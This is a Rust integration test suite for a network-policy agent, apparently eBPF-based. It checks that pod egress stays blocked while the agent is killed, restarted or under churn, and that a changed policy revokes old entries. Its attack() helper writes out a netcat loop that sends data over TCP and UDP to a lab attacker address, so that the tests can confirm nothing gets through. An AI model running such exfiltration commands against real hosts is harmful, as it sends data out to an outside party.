//! The agent may die at any instant: what it enforced stays enforced, and the next one takes it over.

use std::collections::BTreeSet;
use std::time::Duration;

use anyhow::{Result, bail, ensure};
use nix::sys::signal::Signal;
use weir_tests::agent::{Agent, AgentSpec};
use weir_tests::exec;
use weir_tests::lab::{Lab, addresses};
use weir_tests::node::{Container, ContainerSpec, Image, Node, Options, Pod, PodSpec};
use weir_tests::profile::Profile;
use weir_tests::programs::{self, Program};
use weir_tests::vm::repetitions;

const LIMIT: Duration = Duration::from_secs(30);
/// How often the agent is killed under churn.
const KILLS: usize = 20;

struct World {
    lab: Lab,
    node: Node,
    image: Image,
}

impl World {
    fn new() -> Result<Self> {
        let lab = Lab::new()?;
        let image = Image::busybox("job")
            .program(Program::StaticClient.path()?, "/bin/client")
            .program(programs::target_folder()?.join("weir-initc"), "/bin/weir-initc")
            .program("/usr/bin/curl", "/bin/curl");
        let node = Node::start(&lab, &Options::images(&[&image]))?;
        Ok(Self { lab, node, image })
    }

    /// A pod whose barrier has been started, not waited for.
    fn begin(&self, name: &str) -> Result<(Pod, Container)> {
        let pod = self.node.run_pod(PodSpec::new(name))?;
        let barrier = pod.start(ContainerSpec::barrier(&self.image, &pod.spec().uid, LIMIT))?;
        Ok((pod, barrier))
    }

    fn pod(&self, name: &str) -> Result<Pod> {
        let (pod, barrier) = self.begin(name)?;
        ensure!(barrier.wait(LIMIT)? == 0, "{}", barrier.logs()?);
        Ok(pod)
    }

    /// Runs a script in a pod to its end.
    fn script(&self, pod: &Pod, script: &str) -> Result<(i32, String)> {
        let container = pod.start(ContainerSpec::new("build", &self.image).shell(script))?;
        let code = container.wait(LIMIT)?;
        let said = container.logs()?;
        container.remove()?;
        Ok((code, said))
    }

    /// What is left of pods on the node.
    fn leftovers(&self) -> Result<String> {
        let script = "find /sys/fs/bpf/weir/*/pods /run/weir/pods -mindepth 1; \
                      bpftool map dump pinned /sys/fs/bpf/weir/*/tables/WIRES | grep key; true";
        let mut show = self.node.command("sh");
        show.args(["-c", script]);
        Ok(exec::run(show, LIMIT)?.expect_code(0)?.stdout)
    }
}

fn policy() -> AgentSpec {
    let profile = Profile::deny_all().domains_at(&["files.example.com"], &["80"]);
    AgentSpec::default().namespace("ci", &profile.text())
}

/// Tries the attacker by TCP and UDP, over both families.
fn attack() -> String {
    let (v4, v6) = (addresses::ATTACKER.v4, addresses::ATTACKER.v6);
    format!(
        "for to in {v4} {v6}; do echo x | nc -w 1 $to 8443; echo x | nc -u -w 1 $to 8443; done \
         2>/dev/null; true"
    )
}

#[test]
fn a_dead_agents_pods_stay_closed_and_the_next_one_takes_them_over() -> Result<()> {
    let world = World::new()?;
    let agent = policy().start(&world.node)?;
    let pod = world.pod("job")?;
    let fetch = "curl -sS -m 5 http://files.example.com/";
    let (code, said) = world.script(&pod, fetch)?;
    ensure!(code == 0, "{said}");
    let watch = world.lab.watch(world.lab.attacker.host())?;
    agent.kill()?;

    // The address that the name had is still allowed; the name itself finds nobody.
    let ip = addresses::WEB[0].v4;
    let literal = format!("curl -sS -m 5 -H 'Host: files.example.com' http://{ip}/");
    let (code, said) = world.script(&pod, &literal)?;
    ensure!(code == 0, "while no agent ran: {said}");
    let (code, said) = world.script(&pod, fetch)?;
    ensure!(code != 0, "a name resolved while no agent ran: {said}");
    world.script(&pod, &attack())?;

    let agent = policy().start(&world.node)?;
    agent.wait_for("took_us=")?;
    // Nobody has asked for the name since: the entry is the one that was adopted.
    let (code, said) = world.script(&pod, &literal)?;
    ensure!(code == 0, "after adoption: {said}");
    let (code, said) = world.script(&pod, fetch)?;
    ensure!(code == 0, "after adoption: {said}");
    world.script(&pod, &attack())?;
    let seen = watch.take()?;
    ensure!(seen.is_empty(), "the attacker saw {seen:?}");
    let uid = pod.spec().uid.clone();
    let adopted = agent.events()?.into_iter().any(|event| {
        event.kind() == "violation" && event.text("/pod/uid") == uid && event.comm() == "nc"
    });
    ensure!(adopted, "no violation after adoption");
    pod.remove()?;
    agent.wait_for("phase=\"gone\"")?;
    let left = world.leftovers()?;
    ensure!(left.is_empty(), "left: {left}");
    agent.stop().map(drop)
}

#[test]
fn a_policy_that_changed_meanwhile_cuts_what_it_revokes() -> Result<()> {
    let world = World::new()?;
    let agent = policy().start(&world.node)?;
    let pod = world.pod("job")?;
    let (code, said) = world.script(&pod, "curl -sS -m 5 http://files.example.com/")?;
    ensure!(code == 0, "{said}");
    agent.kill()?;
    let other = Profile::deny_all().domains_at(&["api.example.com"], &["80"]);
    let agent = AgentSpec::default().namespace("ci", &other.text()).start(&world.node)?;
    agent.wait_for("took_us=")?;
    let literal = format!("curl -sS -m 5 http://{}/", addresses::WEB[0].v4);
    let (code, said) = world.script(&pod, &literal)?;
    ensure!(code != 0, "an address of a name that is not allowed any more: {said}");
    agent.stop().map(drop)
}

#[test]
fn pods_that_came_and_went_meanwhile_are_reconciled() -> Result<()> {
    let world = World::new()?;
    let agent = policy().start(&world.node)?;
    let gone = world.pod("gone")?;
    agent.kill()?;
    gone.remove()?;
    let (_pod, barrier) = world.begin("new")?;
    let agent = policy().start(&world.node)?;
    ensure!(barrier.wait(LIMIT)? == 0, "{}", barrier.logs()?);
    let pods = Agent::pods(&world.node)?;
    let names: Vec<_> =
        pods.as_array().into_iter().flatten().map(|pod| pod["name"].clone()).collect();
    ensure!(names == ["new"], "{pods}");
    let left = world.leftovers()?;
    let of_pods = left.lines().filter_map(|line| line.split_once("/pods/"));
    let of_pods: Vec<_> = of_pods.map(|(_, rest)| rest.split('/').next()).collect();
    let pods: BTreeSet<_> = of_pods.iter().collect();
    ensure!(pods.len() == 1, "{pods:?} in {left}");
    // Twelve hooks and their folder, and a journal; and the second layer, where it is a link of TCX.
    ensure!((14..=15).contains(&of_pods.len()), "{} in {left}", of_pods.len());
    agent.stop().map(drop)
}

#[test]
fn enforcement_is_never_weaker_under_kills_and_churn() -> Result<()> {
    let world = World::new()?;
    let watch = world.lab.watch(world.lab.attacker.host())?;
    let mut agent = policy().start(&world.node)?;
    let old = world.pod("old")?;
    let (code, said) = world.script(&old, "curl -sS -m 5 http://files.example.com/")?;
    ensure!(code == 0, "{said}");
    let loops = format!("while :; do {}; done", attack());
    let _attacker = old.start(ContainerSpec::new("attacker", &world.image).shell(&loops))?;
    for kill in 0..repetitions(KILLS) {
        let (pod, barrier) = world.begin(&format!("churn-{kill}"))?;
        // A different instant of the new pod's start each time, and of the old one's adoption.
        let instant = Duration::from_micros(kill as u64 * 7919 % 60_000);
        std::thread::sleep(instant);
        agent.process().signal(Signal::SIGKILL)?;
        agent.kill().ok();
        agent = policy().start(&world.node)?;
        if barrier.wait(LIMIT)? != 0 {
            bail!("kill {kill} after {instant:?}: {}", barrier.logs()?);
        }
        world.script(&pod, &attack())?;
        pod.remove()?;
    }
    let seen = watch.take()?;
    ensure!(seen.is_empty(), "the attacker saw {seen:?}");
    let literal = format!("curl -sS -m 5 http://{}/", addresses::WEB[0].v4);
    let (code, said) = world.script(&old, &literal)?;
    ensure!(code == 0, "the old pod's entry was lost: {said}");
    old.remove()?;
    agent.stop().map(drop)
}
